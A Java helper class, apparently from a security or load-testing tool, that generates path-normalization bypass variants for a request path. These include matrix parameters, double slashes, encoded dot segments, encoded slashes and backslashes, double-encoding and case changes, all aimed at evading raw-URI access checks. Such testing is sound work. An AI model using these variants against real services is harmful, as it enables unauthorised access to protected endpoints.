package dev.protostar.loadtest.attack;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * The ways one path can be spelled to slip past a check made on the raw URI while routing sees the plain path:
 * matrix parameters, {@code //}, dot segments (plain and encoded), encoded slashes and backslashes, an encoded and
 * a double-encoded letter, a trailing slash, another case.
 */
final class PathSpellings {

    private PathSpellings() {}

    static List<String> of(String pathAndQuery) {
        int q = pathAndQuery.indexOf('?');
        String path = q < 0 ? pathAndQuery : pathAndQuery.substring(0, q);
        String query = q < 0 ? "" : pathAndQuery.substring(q);
        if (path.equals("/")) {
            return List.of("//" + query, "/;x" + query, "/./" + query, "/%2e/" + query);
        }
        String first = path.substring(1, path.indexOf('/', 1) < 0 ? path.length() : path.indexOf('/', 1));
        String rest = path.substring(1 + first.length());
        String encoded = String.format("%%%02x", (int) first.charAt(0)) + first.substring(1);
        List<String> spellings = new ArrayList<>(List.of(
                "/" + first + ";x" + rest,
                path + ";jsessionid=1",
                "/" + path,
                "/" + first + "/." + rest,
                "/" + first + "/x/.." + rest,
                "/" + first + "/%2e%2e/" + first + rest,
                "/" + first + "%2f" + (rest.isEmpty() ? "" : rest.substring(1)),
                "/" + first + "%5c" + (rest.isEmpty() ? "" : rest.substring(1)),
                "/" + encoded + rest,
                "/%25" + encoded.substring(1) + rest,
                path + "/",
                "/" + first.toUpperCase(Locale.ROOT) + rest));
        spellings.replaceAll(spelling -> spelling + query);
        return spellings;
    }
}
